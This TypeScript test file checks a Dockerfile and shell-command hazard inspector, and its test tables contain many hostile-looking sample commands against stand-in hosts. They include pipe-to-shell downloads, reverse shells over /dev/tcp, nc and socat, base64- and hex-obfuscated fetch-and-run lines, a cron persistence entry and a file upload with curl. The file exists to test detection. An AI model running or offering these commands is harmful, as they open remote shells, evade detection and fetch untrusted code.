import t from 'tap';
import { readDockerfile } from '../../src/docker/dockerfile/read.js';
import { inspectCommand } from '../../src/hazards/command.js';
import { inspectDockerfile } from '../../src/hazards/dockerfile.js';
import { newFindings, type Findings, formatHazard } from '../../src/hazards/inspection.js';

function inspected(text: string, buildArgs: Readonly<Record<string, string | null>> = {}): Findings {
  const found = newFindings();
  const content = new TextEncoder().encode(text);
  inspectDockerfile(readDockerfile(content, { buildArgs, target: '', platform: '' }), found);
  return found;
}

const hazards = ({ hazards }: Findings): string[] => hazards.map(formatHazard).sort();

/** Hazards of `FROM alpine` and these lines. */
const raised = (lines: string): string[] => hazards(inspected(`FROM alpine\n${lines}\n`));

void t.test('facts', (t) => {
  const { facts } = inspected(
    [
      'ARG B=docker.io/library/busybox',
      'FROM $B AS tools',
      'FROM beef',
      'FROM scratch',
      'COPY --from=tools /bin /bin',
      'COPY --from=nginx:1 /a /b',
      'COPY --from=quay.io/a/b /a /b',
      'ADD https://a.example/x /x',
      'RUN echo \\\n  one',
      'RUN ["/bin/echo", "two"]',
      'USER app',
      'ENTRYPOINT ["/x"]',
    ].join('\n'),
  );
  t.same(facts, {
    'build.from': ['busybox:latest', 'beef:latest', 'scratch'],
    'build.copy-from': ['nginx:1', 'quay.io/a/b:latest'],
    'build.registries': ['docker.io', '', 'quay.io'],
    'build.add-urls': ['https://a.example/x'],
    'build.run': ['echo   one', '/bin/echo two'],
    'build.command': ['/x'],
    'build.users': ['app'],
    'build.syntax': [],
    'build.stages': ['tools', '1', '2'],
    'build.unclear': [],
  });
  const unread = inspected('FROM $A\n');
  t.same(hazards(unread), ['opaque:dockerfile']);
  t.match(
    unread.facts,
    { 'build.from': ['?'], 'build.run': ['?'], 'build.users': ['?'], 'build.registries': ['?'] },
    'no fact holds by being empty',
  );
  t.end();
});

void t.test('a row per hazard, and its near miss', (t) => {
  const rows: readonly (readonly [string, readonly string[]])[] = [
    ['ADD http://a/x https://b/y /d/', ['add-url:http://a/x', 'add-url:https://b/y']],
    ['ADD ["HTTP://a/x", "/y"]', ['add-url:HTTP://a/x']],
    ['ARG U=http://a\nADD $U/x /y', ['add-url:http://a/x']],
    ['ADD $UNSET /y', ['add-url:$UNSET']],
    ['ADD ${PATH:+http://a/x} /y', ['add-url:http://a/x']],
    ['ONBUILD ADD http://a/x /y', ['add-url:http://a/x', 'on-build:ADD http://a/x /y']],
    ['ADD x.tar.gz httpd.conf a/http://b /d/', []],
    ['ADD src/$UNSET /d/', []],
    ['ADD git@a.example:x /y', ['add-git:git@a.example:x']],
    ['ADD https://a/x.git#main /y', ['add-git:https://a/x.git#main', 'add-url:https://a/x.git#main']],
    ['COPY --from=nginx /a /b', ['copy-from-image:nginx:latest']],
    ['COPY --from=1 /a /b', ['copy-from-image:1:latest']],
    ['RUN --mount=from=nginx,target=/x true', ['copy-from-image:nginx:latest', 'run-mount:bind']],
    ['RUN --mount=type=Cache,target=/x --mount=type=ssh true', ['run-mount:cache', 'run-mount:ssh']],
    ['RUN --network=host true', ['run-network:host']],
    ['RUN --network=none true', []],
    ['RUN --security=insecure true', ['run-security:insecure']],
    ['RUN --security=sandbox true', []],
    ['RUN --device=vendor.com/class=x true', ['run-device:vendor.com/class=x']],
    ['ONBUILD RUN curl https://a/x', ['download:https://a/x', 'on-build:RUN curl https://a/x']],
    ['CMD ["curl", "https://a/x"]', ['download:https://a/x']],
    ['HEALTHCHECK CMD curl https://a/x', ['download:https://a/x']],
    ['HEALTHCHECK CMD curl -f http://localhost:80/health', []],
    ['SHELL ["wget", "http://a/x"]\nRUN y', ['download:http://a/x']],
    ['SHELL ["/bin/bash", "-eo", "pipefail", "-c"]\nRUN true', []],
    ['ARG U=a.example\nENV V=https://$U\nRUN curl $V/x', ['download:https://a.example/x']],
    ['RUN ["sh", "-c", "curl https://a/x | sh"]', ['download:https://a/x']],
    ['RUN ["echo", "curl https://a/x"]', []],
    ['RUN ["x"] y', ['opaque:dockerfile']],
    [`RUN ${'$('.repeat(2000)}`, ['opaque:command']],
  ];
  for (const [lines, expected] of rows) t.same(raised(lines), [...expected].sort(), lines.slice(0, 80));
  t.same(hazards(inspected('# syntax=docker/dockerfile:1\nFROM alpine\n')), ['syntax:docker/dockerfile:1']);
  t.same(hazards(inspected('#!/x\n# syntax=evil\nFROM alpine\n')), ['syntax:evil:latest']);
  t.same(hazards(inspected('FROM alpine\n# syntax=evil\n')), []);
  t.same(hazards(inspected('FROM alpine\n', { BUILDKIT_SYNTAX: 'evil' })), ['syntax:evil:latest']);
  t.end();
});

const ENV: Readonly<Record<string, string>> = { PROXY: 'http://c2:3128' };

function downloads(text: string): string[] {
  const found = newFindings();
  inspectCommand([text], 'shell', (name) => ENV[name], found);
  return hazards(found);
}

void t.test('commands that download', (t) => {
  const rows: readonly (readonly [string, string])[] = [
    ['wget http://c2/x.sh', 'download:http://c2/x.sh'],
    ['curl -fsSL https://c2.example/x | sh', 'download:https://c2.example/x'],
    ["w\\get ht''tp://c2/x", 'download:http://c2/x'],
    ['$(echo wget) http://c2/x', 'download:http://c2/x'],
    ['W=wget; U=http://c2/x; $W $U', 'download:http://c2/x'],
    ['wget${IFS}http://c2/x', 'download:http://c2/x'],
    ['curl 198.51.""100.7/x', 'download:198.51.100.7/x'],
    ["$'\\x77get' http://c2/x", 'download:http://c2/x'],
    [
      'echo d2dldCBodHRwOi8vYzIuZXZpbC5leGFtcGxlL3guc2ggLU8tfHNo | base64 -d | sh',
      'download:http://c2.evil.example/x.sh',
    ],
    ["bash -c 'exec 3<>/dev/tcp/c2.example/443'", 'download:tcp://c2.example:443'],
    ['bash -i >& /dev/tcp/1.2.3.4/443 0>&1', 'download:tcp://1.2.3.4:443'],
    ['python3 -c "import urllib.request as u;u.urlopen(\'http://c2/x\')"', 'download:http://c2/x'],
    ["python -c 'import socket;s=socket.socket()'", 'download:?'],
    ['perl -e \'use LWP::Simple;getstore("http://c2/x","y")\'', 'download:http://c2/x'],
    ['git clone https://c2/x.git', 'download:https://c2/x.git'],
    ['git clone git@c2:x', 'download:git@c2:x'],
    ['pip install git+https://c2/x', 'download:git+https://c2/x'],
    ['pip install --index-url http://c2/ x', 'download:http://c2/'],
    ['npm install https://c2/x.tgz', 'download:https://c2/x.tgz'],
    ['apk add --repository http://c2/ x', 'download:http://c2/'],
    ['nc c2.example 4444 -e sh', 'download:tcp://c2.example:4444'],
    ['nc -e /bin/sh 1.2.3.4 80', 'download:tcp://1.2.3.4:80'],
    ['busybox wget http://c2/x', 'download:http://c2/x'],
    ['/usr/bin/curl c2.example/x', 'download:c2.example/x'],
    ['env -i curl c2.example', 'download:c2.example'],
    ['xargs curl < list', 'download:?'],
    ["echo 'curl http://c2/x' | sh", 'download:http://c2/x'],
    ["echo 'curl http://c2/x' > /x && sh /x", 'download:http://c2/x'],
    ["echo 'curl http://c2/x' > /x.sh", 'download:http://c2/x'],
    ["echo 'wget $URL' > /x.sh", 'download:?'],
    ["echo '* * * * * root curl -s http://c2/x' > /etc/cron.d/x", 'download:http://c2/x'],
    ['wget 127.0.0.1.c2.example', 'download:127.0.0.1.c2.example'],
    ['wget localhost@c2.example', 'download:localhost@c2.example'],
    ['if true; then curl http://c2; fi', 'download:http://c2'],
    ['apk add curl && curl http://c2', 'download:http://c2'],
    ['sh -c "sh -c \'curl http://c2\'"', 'download:http://c2'],
    ['curl $UNKNOWN', 'download:?'],
    ['eval "$(echo \'curl http://c2\')"', 'download:http://c2'],
    ["printf '\\143url http://c2' | sh", 'download:http://c2'],
    ['http_proxy=http://c2:3128 apk add curl', 'download:http://c2:3128'],
    ["sh <<< 'curl http://c2'", 'download:http://c2'],
    ["{ echo 'curl http://c2'; } | sh", 'download:http://c2'],
    ['curl `echo http://c2`', 'download:http://c2'],
    ['x=`curl http://c2`', 'download:http://c2'],
    ['echo 636f6d | xxd; echo 6375726c20687474703a2f2f63322f78 | xxd -r -p | sh', 'download:http://c2/x'],
    ['wget -qO- c2.example|sh', 'download:c2.example'],
    ['A=${B:-http://c2/x}; wget $A', 'download:http://c2/x'],
    ['cat /dev/null; ftp c2.example', 'download:c2.example'],
    ['curl 0x7f000042/x', 'download:0x7f000042/x'],
    ['curl 2130706498', 'download:2130706498'],
    ['scp u@c2:/x /y', 'download:u@c2:/x'],
    ['curl http://localhost@evil/', 'download:http://localhost@evil/'],
    ['source <(curl -s http://c2)', 'download:http://c2'],
    ['! wget http://c2', 'download:http://c2'],
    ['find . -exec curl -T {} http://c2 \\;', 'download:http://c2'],
    ["ruby -ropen-uri -e 'open(%q(http://c2))'", 'download:http://c2'],
    ["node -e \"require('https').get('https://c2')\"", 'download:https://c2'],
    ["php -r 'file_get_contents($x);'", 'download:?'],
    ['awk \'BEGIN{s="/inet/tcp/0/c2/80"}\'', 'download:?'],
    ['socat TCP:c2:80 EXEC:sh', 'download:?'],
  ];
  for (const [text, expected] of rows)
    t.ok(downloads(text).includes(expected), `${text}: ${downloads(text).join(' ')}`);
  t.end();
});

void t.test('commands that do not', (t) => {
  for (const text of [
    'apk add --no-cache curl wget',
    'apt-get update && apt-get install -y curl git openssh-client',
    'npm ci',
    'pip install -r requirements.txt',
    'go build ./...',
    'make',
    'which curl',
    'command -v wget',
    'curl --version',
    'git --version',
    'git config --global user.name x',
    'echo curl http://c2',
    'rm -f /usr/bin/wget',
    'ln -s /bin/busybox /usr/bin/wget',
    'docker-php-ext-install curl gd',
    "sed -i 's#http://deb.debian.org#https://mirror#' /etc/apt/sources.list",
    "echo 'https://dl-cdn/alpine' >> /etc/apk/repositories",
    "echo 'see https://example.com/docs' > /etc/motd",
    'echo curl wget nc > /list',
    "echo 'wget -q localhost' > /check.sh",
    'test -x /usr/bin/curl',
    'curl -f http://localhost:8080/health || exit 1',
    'wget -q --spider http://127.0.0.1/',
    'rsync -a src/ dst/',
    'git clone /src /dst',
    'git clone . /x',
    'export URL=https://x.example/a',
    '# see https://x.example curl http://c2',
    'chmod +x /usr/local/bin/fetch',
    'apk del wget',
    'mkdir -p /links',
    'addgroup -S http && adduser -S http',
    'python manage.py migrate',
    'node server.js',
    'echo 1 >&2',
    '[ "$(uname -m)" = x86_64 ]',
    'cd /app && npm run build -- --base=/x/',
    'for f in curl wget; do rm -f $f; done',
    'dpkg --purge wget',
    'useradd -d /x ssh',
    'ssh-keygen -A',
    'cp links /x',
    'x=$((1<<3)); echo $x',
    'true || false',
    'java -jar app.jar',
    'pip install requests httpx',
    "printf '%s\\n' a b > /x",
    'gem install bundler',
  ]) {
    t.same(downloads(text), [], text);
  }
  t.end();
});

void t.test('a flood of commands is opaque, not slow', (t) => {
  for (const unit of ['`', '$(', 'curl http://1.1.1.1/ ', '|sh', 'sh -c "', '"$(', '/dev/tcp/']) {
    const started = performance.now();
    downloads(unit.repeat(200_000 / unit.length));
    t.ok(performance.now() - started < 3000, JSON.stringify(unit));
  }
  const many = Array.from({ length: 300 }, (_, index) => `curl http://a/${index}`).join(';');
  t.ok(downloads(many).includes('opaque:command'), 'more addresses than are listed');
  t.end();
});
